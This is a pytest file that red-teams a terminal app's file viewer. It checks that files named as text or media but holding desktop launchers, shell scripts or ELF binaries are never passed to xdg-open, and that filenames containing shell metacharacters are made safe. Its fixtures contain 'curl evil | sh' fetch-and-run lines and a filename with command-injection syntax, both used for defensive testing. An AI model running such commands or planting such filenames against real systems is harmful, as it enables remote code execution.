"""Red team on the system viewer (issue 15): a file whose name says text or media but whose
content is a desktop launcher, a script or a program is not handed to ``xdg-open`` — a viewer
that sniffs content (GIO takes the sniffed ``application/x-desktop`` over a ``.txt`` name, being
a subtype of ``text/plain``; xdg-mime's generic mode asks ``file``) could launch it."""

from __future__ import annotations

import pytest

from gradio_tui.tui.viewer import open_detached
from tests.tui.test_outputs_files import fake_viewer

pytestmark = pytest.mark.trust

LAUNCHER = b"[Desktop Entry]\nType=Application\nName=notes\nExec=sh -c 'curl evil | sh'\n"
CONTENTS = {
    "notes.txt": LAUNCHER,
    "readme.md": b"# notes\n\n" + LAUNCHER,
    "data.json": b"\xef\xbb\xbf" + LAUNCHER,
    "report.csv": b"#!/bin/sh\ncurl evil | sh\n",
    "photo.png": b"\x7fELF\x02\x01\x01" + b"\0" * 64,
}


@pytest.mark.parametrize("name", sorted(CONTENTS))
def test_a_launcher_script_or_program_under_a_harmless_name_is_not_opened(tmp_path, monkeypatch, name):
    record = fake_viewer(tmp_path / "bin")
    monkeypatch.setenv("PATH", str(tmp_path / "bin"))
    path = tmp_path / name
    path.write_bytes(CONTENTS[name])
    opened, words = open_detached(path)
    assert not opened and str(path) in words and "not opened" in words.lower()
    assert not record.exists()


def test_plain_text_that_mentions_a_launcher_later_is_still_opened(tmp_path, monkeypatch):
    fake_viewer(tmp_path / "bin")
    monkeypatch.setenv("PATH", str(tmp_path / "bin"))
    path = tmp_path / "notes.md"
    path.write_bytes(b"Notes\n" + b"x" * 10_000 + b"\n[Desktop Entry] is how launchers start\n")
    opened, _ = open_detached(path)
    assert opened


async def test_the_viewer_gets_a_name_of_plain_characters_whatever_the_app_calls_it(fs, tmp_path, monkeypatch):
    """An app names its file ``-x $(touch m) `id`;'".txt``: the copy handed to ``xdg-open`` (a shell
    script, whose old versions lost quoting under dash: CVE-2015-1877) is named with letters,
    digits, ``.``, ``_`` and ``-`` only, not starting with ``-``, and keeps its type."""
    import os
    from pathlib import Path

    from gradio_tui.core.session import Session
    from gradio_tui.tui.app import GradioTuiApp
    from gradio_tui.tui.widgets.result_view import ResultView
    from tests.support.faultserver import completed, estimation, starts
    from tests.support.pilot import SIZE, press, run_with_keys, until_connected, until_done, wait_for

    record = fake_viewer(tmp_path / "bin")
    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}{os.pathsep}{os.environ['PATH']}")
    evil = "-x $(touch m) `id`;'\"\u00e9.txt"
    output = {"path": "/tmp/notes.txt", "url": f"{fs.url}/gradio_api/file=/tmp/notes.txt", "orig_name": evil,
              "size": None, "mime_type": "text/plain", "meta": {"_type": "gradio.FileData"}}
    fs.file_bytes = b"plain notes\n"
    fs.script = lambda eid, body: [estimation(eid), starts(eid), completed(eid, [output])]
    session = await Session.connect(fs.url, timeout=10)
    app = GradioTuiApp(session=session, remember_targets=False)
    async with app.run_test(size=SIZE) as pilot:
        await until_connected(pilot, app)
        await until_done(pilot, await run_with_keys(pilot, app))
        app.screen.query_one(ResultView).focus()
        await pilot.pause()
        await press(pilot, "o")
        await wait_for(pilot, lambda: record.exists() and record.read_text(), 10, "the viewer to be called")
        opened = Path(record.read_text())
        assert opened.read_bytes() == b"plain notes\n"
        assert opened.suffix == ".txt" and not opened.name.startswith("-")
        assert all(c.isascii() and (c.isalnum() or c in "._-") for c in opened.name), opened.name
